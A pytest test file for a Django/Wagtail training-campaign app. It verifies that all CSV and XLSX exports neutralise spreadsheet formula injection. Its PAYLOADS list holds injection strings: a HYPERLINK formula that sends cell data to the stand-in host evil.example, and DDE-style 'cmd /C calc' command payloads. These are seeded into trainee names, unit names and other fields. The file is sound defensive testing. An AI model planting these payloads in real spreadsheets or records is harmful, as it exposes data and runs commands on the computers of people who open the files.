"""Formula-safe everywhere: the same payloads, typed by a trainee into her name and position
(or found in a subscriber's address, a ledger error, a unit's name), go out through every
export — Wagtail's listing exports of registrations, the delivery ledger and subscribers
(CSV and XLSX), the programme's "not yet trained" list and indicator breakdown, and the
personal-data downloads — and no cell of any file starts a formula (campaigns.spreadsheets)."""

import csv
import datetime
import io
import re

import pytest
from django.test import Client
from django.utils import timezone
from openpyxl import load_workbook

from campaigns.accounts import roles
from campaigns.spreadsheets import FORMULA_START

from .helpers import make_trainee_with_registration, make_unit_tree, make_user
from .otp import login_verified

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?q="&A1,"Bấm vào đây")',
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
]
NUMBER = re.compile(r"^-?\d+([.,]\d+)?$")


def _cells(response):
    body = b"".join(response.streaming_content) if response.streaming else response.content
    if body[:2] == b"PK":
        book = load_workbook(io.BytesIO(body))
        cells = []
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", f"formula cell {cell.coordinate}: {cell.value!r}"
                    if isinstance(cell.value, str):
                        cells.append(cell.value)
        return cells
    return [cell for row in csv.reader(io.StringIO(body.decode("utf-8-sig"))) for cell in row]


def _assert_safe(response, label, expect=PAYLOADS):
    assert response.status_code == 200, (label, response.status_code)
    cells = _cells(response)
    running = [c for c in cells if c.startswith(FORMULA_START) and not NUMBER.match(c)]
    assert not running, f"{label}: cells a spreadsheet would run: {running}"
    text = "\n".join(cells)
    for payload in expect:
        assert "'" + payload in text, f"{label}: {payload!r} missing (expected it written as text)"


@pytest.fixture
def people(db):
    from campaigns.newsletter.models import Subscriber
    from campaigns.notifications.models import Delivery
    from campaigns.programme.models import OrganisationUnit, PlanningPoolEntry

    province, a, _b = make_unit_tree()
    OrganisationUnit.objects.filter(pk=a.pk).update(name=PAYLOADS[0])
    a.refresh_from_db()
    made = []
    for index, payload in enumerate(PAYLOADS):
        user, person, registration = make_trainee_with_registration(email=f"f{index}@example.vn", name=payload, unit=a)
        person.position = payload
        person.save()
        PlanningPoolEntry.objects.create(person=person, unit=a, target_post=payload, term_start_year=2025,
                                         term_end_year=2030, starts_on=timezone.localdate() - datetime.timedelta(days=9))
        Delivery.objects.create(message_key=f"k{index}", recipient_key=f"r{index}", channel="email", kind="reminder",
                                person=person, last_error=payload, due_at=timezone.now(), next_attempt_at=timezone.now())
        Subscriber.objects.create(email=payload + f"{index}@example.vn")
        made.append((user, person, registration))
    return province, a, made


def _admin():
    from campaigns.accounts.role_setup import setup_roles

    setup_roles()
    client = Client()
    login_verified(client, make_user(roles.ADMINISTRATOR, username="xuat"))
    return client


def test_every_export_is_formula_safe(people):
    province, unit, made = people
    client = _admin()
    for fmt in ("csv", "xlsx"):
        _assert_safe(client.get(f"/admin/training_registration/?export={fmt}"), f"registrations {fmt}")
        _assert_safe(client.get(f"/admin/snippets/notifications/delivery/?export={fmt}"), f"ledger {fmt}")
        _assert_safe(client.get(f"/admin/ban-tin/nguoi-dang-ky/?export={fmt}"), f"subscribers {fmt}")
        _assert_safe(client.get("/admin/chuong-trinh/chua-dao-tao/", {"unit": unit.code, "format": fmt}),
                     f"untrained {fmt}")
        _assert_safe(client.get("/admin/chuong-trinh/xuat/", {"unit": province.code, "format": fmt, "table": "breakdown"}),
                     f"breakdown {fmt}", expect=PAYLOADS[:1])
    person = made[1][1]
    _assert_safe(client.get(f"/admin/personal-data/{person.pk}/export.xlsx"), "staff personal-data export",
                 expect=PAYLOADS[1:2])
    trainee = Client()
    trainee.force_login(made[2][0])
    _assert_safe(trainee.get("/du-lieu-ca-nhan/tai-ve.xlsx"), "own data download", expect=PAYLOADS[2:3])


def test_every_wagtail_listing_export_goes_through_the_one_writer():
    """A viewset added later is covered too: the writer wraps Wagtail's export mixin itself."""
    from wagtail.admin.views.mixins import SpreadsheetExportMixin

    from campaigns import spreadsheets

    assert SpreadsheetExportMixin.preprocess_field_value.__module__ == spreadsheets.__name__
    view = SpreadsheetExportMixin()
    for payload in PAYLOADS:
        for fmt in ("csv", "xlsx"):
            assert view.preprocess_field_value("name", payload, fmt) == "'" + payload
    assert view.preprocess_field_value("capacity", -2, "csv") == -2  # numbers stay numbers
